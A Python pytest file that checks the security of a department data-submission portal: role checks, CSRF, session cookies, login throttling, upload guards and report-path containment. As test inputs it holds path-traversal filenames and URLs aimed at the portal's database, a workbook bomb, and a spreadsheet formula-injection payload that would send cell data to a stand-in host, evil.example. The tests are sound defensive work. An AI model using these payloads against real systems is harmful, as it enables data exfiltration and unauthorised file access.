"""Who may do what in the portal, and what hostile requests meet: roles (403), anonymous access
(login page and published bulletin only), CSRF, cookies, throttled passwords, and the intake guards
for names, sizes, types, workbook bombs and formula injection."""

from __future__ import annotations

import io
import json
import zipfile

import openpyxl
import pytest

from tests.support.portal import BAD, GOOD, PASSWORD, client, csrf_of, inbox_files, login, upload
from transforms.intake.guards import MAX_FILE_BYTES


def test_session_cookie_flags_and_security_headers(portal_env):
    c = client(portal_env)
    c.get("/login")
    r = c.post("/login", data={"name": "lyj1", "password": PASSWORD, "csrf": c.cookies.get("ecoassess_login")},
               follow_redirects=False)
    cookie = next(h for h in r.headers.get_list("set-cookie") if h.startswith("ecoassess_session="))
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie
    page = c.get("/department")
    assert "script-src" not in page.headers["content-security-policy"]  # default-src 'self': no inline script
    assert page.headers["x-frame-options"] == "DENY" and page.headers["cache-control"] == "no-store"
    stored = portal_env.portal.db.all("SELECT token_hash FROM session")
    assert cookie.split("=", 1)[1].split(";")[0] not in json.dumps(stored)  # only the token's hash is kept
    assert portal_env.portal.db.one("SELECT password_hash FROM account WHERE name = 'lyj1'")[
        "password_hash"].startswith("$argon2id$")


def test_anonymous_reaches_only_login_and_a_published_bulletin(portal_env):
    reports = portal_env.portal.home.reports(2025)
    reports.mkdir(parents=True)
    (reports / "bulletin.html").write_text("<h1>公报</h1>", "utf-8")
    (reports / "manifest.json").write_text(json.dumps({"reports": []}), "utf-8")
    (reports / "cadre").mkdir()
    (reports / "cadre" / "c1.html").write_text("个人信息", "utf-8")
    c = client(portal_env)
    for path in ("/", "/department", "/office", "/reviewer", "/office/audit", "/reports/2025/cadre/c1.html",
                 "/bulletin/2025.html", "/template/2025/indicators", "/uploads/1/file"):
        r = c.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
    assert c.get("/api/submissions", params={"year": 2025}).status_code == 401
    assert c.get("/login").status_code == 200 and c.get("/static/portal.css").status_code == 200
    # the office publishes the bulletin: then, and only then, it is public
    office = client(portal_env)
    page = login(office, "office1")
    office.post("/office/publish", data={"csrf": csrf_of(page.text), "year": "2025", "publish": "1"})
    assert c.get("/bulletin/2025.html").text == "<h1>公报</h1>"
    assert c.get("/reports/2025/cadre/c1.html", follow_redirects=False).status_code == 303


def test_department_cannot_reach_others_data_or_pages(portal_env):
    lyj, zrzyj = client(portal_env), client(portal_env)
    upload(lyj, login(lyj, "lyj1").text, BAD)
    lyj_upload = lyj.get("/api/submissions", params={"year": 2025}).json()["submissions"][0]["id"]
    page = login(zrzyj, "zrzyj1")
    for path in (f"/uploads/{lyj_upload}/file", f"/uploads/{lyj_upload}/report", f"/uploads/{lyj_upload}/annotated",
                 "/office", "/office/audit", "/office/overdue.xlsx", "/office/department/lyj", "/reviewer",
                 "/reports/2025/index.html", "/template/2025/indicators?department=lyj"):
        assert zrzyj.get(path).status_code == 403, path
    assert zrzyj.get("/api/submissions", params={"year": 2025}).json()["submissions"] == []  # its own only
    # uploading for another department: refused, nothing stored
    r = zrzyj.post("/api/submissions", data={"year": "2025", "kind": "indicators", "department": "lyj"},
                   files={"file": ("x.csv", GOOD, "text/csv")}, headers={"X-CSRF-Token": csrf_of(page.text)})
    assert r.status_code == 403
    assert zrzyj.post("/office/return", data={"csrf": csrf_of(page.text), "id": lyj_upload,
                                              "reason": "x"}).status_code == 403
    assert portal_env.portal.db.one("SELECT count(*) AS n FROM upload")["n"] == 1
    reviewer = client(portal_env)
    login(reviewer, "reviewer1")
    assert reviewer.get("/office").status_code == 403 and reviewer.get("/department").status_code == 403
    assert reviewer.get(f"/uploads/{lyj_upload}/file").status_code == 403


def test_missing_or_wrong_csrf_is_refused(portal_env):
    c = client(portal_env)
    page = login(c, "lyj1")
    for token in (None, "forged"):
        data = {"year": "2025", "kind": "indicators"} | ({"csrf": token} if token else {})
        r = c.post("/department/upload", data=data, files={"file": ("a.csv", GOOD, "text/csv")})
        assert r.status_code == 403 and "CSRF" in r.text
    assert c.post("/api/submissions", data={"year": "2025", "kind": "indicators"},
                  files={"file": ("a.csv", GOOD, "text/csv")}).status_code == 403
    assert c.post("/logout").status_code == 403
    # the login form too (double-submit token)
    anon = client(portal_env)
    assert anon.post("/login", data={"name": "lyj1", "password": PASSWORD}).status_code == 403
    assert portal_env.portal.db.one("SELECT count(*) AS n FROM upload")["n"] == 0
    assert inbox_files(portal_env.inbox) == []
    assert c.get("/department").text.count(csrf_of(page.text)) >= 2  # every form carries it


def test_wrong_passwords_are_throttled_and_audited(portal_env):
    c = client(portal_env)
    for _ in range(5):
        assert login(c, "lyj1", "wrong password!").status_code == 401
    r = login(c, "lyj1")  # the right password, too late
    assert r.status_code == 429 and "秒后再试" in r.text and int(r.headers["retry-after"]) > 0
    assert c.post("/api/login", json={"name": "lyj1", "password": PASSWORD}).status_code == 429
    assert login(client(portal_env), "zrzyj1").url.path == "/department"  # other accounts unaffected
    actions = [a["action"] for a in portal_env.portal.db.all("SELECT action FROM audit WHERE account = 'lyj1'")]
    assert actions.count("login-failed") == 5 and "login-throttled" in actions
    office = client(portal_env)
    login(office, "office1")
    audit = office.get("/office/audit").text
    assert "login-failed" in audit and "testclient" in audit  # who, what and from which address


@pytest.mark.parametrize("name", ["../../etc/passwd.csv", "..\\..\\evil.csv", "/abs/path/x.csv"])
def test_path_traversal_in_names_stays_in_the_department_folder(portal_env, name):
    c = client(portal_env)
    r = upload(c, login(c, "lyj1").text, GOOD, name=name)
    assert "已通过" in r.text
    (placed,) = inbox_files(portal_env.inbox)
    assert placed.parent == portal_env.inbox / "2025" / "lyj" and ".." not in placed.name


def test_wrong_types_oversized_bombs_and_formulas_meet_the_guards(portal_env, tmp_path):
    c = client(portal_env)
    page = login(c, "lyj1").text
    for name in ("data.exe", "data.xls", ".hidden.csv", "noext"):
        r = upload(c, page, GOOD, name=name)
        assert r.status_code in (400, 415) and ("不受理" in r.text or "文件名" in r.text), name
    # over the guards' size limit: refused with their message, before any check
    big = b"a" * (MAX_FILE_BYTES + 10)
    r = upload(c, page, big, name="big.csv")
    assert r.status_code == 413 and "超过上限" in r.text
    # far over: the body cap refuses it before it is read
    r = c.post("/department/upload", content=b"x" * (MAX_FILE_BYTES + 3 * (1 << 20)),
               headers={"content-type": "multipart/form-data; boundary=b"})
    assert r.status_code == 413
    # a workbook bomb: one cell at A1 and one at XFD1048576
    bomb = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active["A1"] = "行政区划代码"
    wb.active["XFD1048576"] = 1
    wb.save(bomb)
    r = upload(c, page, bomb.getvalue(), name="bomb.xlsx")
    assert "已退回" in r.text and ("超过上限" in r.text or "单元格" in r.text)
    # formula injection: refused as a value, and the annotated workbook holds it as text, not a formula
    formula = '=HYPERLINK("http://evil.example/"&A1,"点此")'
    body = ("行政区划代码,县(市、区),森林覆盖率(%)\r\n990001,甲县," + formula.replace('"', '""').join('""')
            + "\r\n990002,乙县,61\r\n990003,丙县,71\r\n").encode()
    r = upload(c, page, body, name="formula.csv")
    assert "已退回" in r.text
    row = c.get("/api/submissions", params={"year": 2025}).json()["submissions"][0]
    annotated = openpyxl.load_workbook(io.BytesIO(c.get(f"/uploads/{row['id']}/annotated").content))
    cells = [cell for ws in annotated.worksheets for r_ in ws.iter_rows() for cell in r_]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(formula in str(cell.value) for cell in cells)
    assert inbox_files(portal_env.inbox) == []  # none of these reached the inbox
    with zipfile.ZipFile(io.BytesIO(c.get(f"/uploads/{row['id']}/annotated").content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_report_paths_cannot_leave_the_reports_folder(portal_env):
    reports = portal_env.portal.home.reports(2025)
    reports.mkdir(parents=True)
    (reports / "index.html").write_text("目录", "utf-8")
    (reports / "link.html").symlink_to(portal_env.portal.db.path)
    c = client(portal_env)
    login(c, "reviewer1")
    assert c.get("/reports/2025/index.html").text == "目录"
    for path in ("/reports/2025/../../portal/portal.sqlite3", "/reports/2025/%2e%2e/%2e%2e/portal/portal.sqlite3",
                 "/reports/2025/link.html", "/reports/2025/..%2f..%2fportal%2fportal.sqlite3"):
        assert c.get(path).status_code == 404, path
